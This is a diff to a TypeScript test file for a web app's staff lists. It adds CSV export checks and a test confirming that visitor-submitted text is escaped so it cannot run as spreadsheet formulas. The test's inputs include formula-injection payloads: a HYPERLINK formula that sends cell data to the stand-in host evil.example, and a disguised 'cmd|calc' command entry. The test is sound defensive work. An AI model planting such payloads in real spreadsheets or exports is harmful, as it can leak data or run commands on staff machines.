@@ -1,4 +1,7 @@
+import { expect, test } from 'vitest'
+import { openTestApp } from '#server/testing/harness.ts'
 import { itIsAnOfficeList } from '#server/testing/office-list.ts'
+import { signedInStaff } from '#server/testing/people.ts'
 
 const email = 'dana@sanduskybay.example'
 
@@ -10,6 +13,12 @@ itIsAnOfficeList({
   },
   shown: { fullName: 'Dana Ortiz', companyName: null, email, phone: '216 555 0142', preferredDate: '2026-04-01', filterTypes: 'dpf', comments: null },
   audited: { action: 'list_read', kind: 'demo_requests' },
+  search: 'ORTIZ',
+  file: {
+    name: 'demo-requests',
+    head: 'Sent on,Name,Company,E-mail,Phone,Preferred date,Filters,Comments',
+    line: `2026-03-05,Dana Ortiz,,${email},216 555 0142,2026-04-01,dpf,`,
+  },
 })
 
 itIsAnOfficeList({
@@ -20,4 +29,23 @@ itIsAnOfficeList({
   },
   shown: { name: 'Dana Ortiz', email, phone: null, message: 'Do you clean DOCs?' },
   audited: { action: 'list_read', kind: 'contact_messages' },
+  search: 'Clean docs',
+  file: { name: 'contact-messages', head: 'Sent on,Name,E-mail,Phone,Message', line: `2026-03-05,Dana Ortiz,${email},,Do you clean DOCs?` },
+})
+
+test('what a visitor typed runs in no spreadsheet', async () => {
+  const testApp = await openTestApp()
+  const staff = await signedInStaff(testApp)
+  const formula = '=HYPERLINK("http://evil.example/?"&A1;"Click")'
+  const sent = await Promise.all([
+    testApp.app.inject({ method: 'POST', url: '/api/contact-messages', payload: { name: '@SUM(A1:A9)', email, phone: '+1 216 555 0142', message: formula } }),
+    testApp.app.inject({
+      method: 'POST', url: '/api/demo-requests',
+      payload: { fullName: '-2+3', companyName: '\uff1dcmd|calc', email, phone: '+1 216 555 0142', comments: `${formula}\nand "more", please` },
+    }),
+  ])
+  expect(sent.map(({ statusCode }) => statusCode)).toEqual([201, 201])
+  const quoted = `"'${formula.replaceAll('"', '""')}`
+  expect((await staff.call('GET', '/api/admin/contact-messages.csv')).text).toContain(`,'@SUM(A1:A9),${email},'+1 216 555 0142,${quoted}"\r\n`)
+  expect((await staff.call('GET', '/api/admin/demo-requests.csv')).text).toContain(`,'-2+3,'\uff1dcmd|calc,${email},'+1 216 555 0142,,,${quoted}\nand ""more"", please"\r\n`)
 })
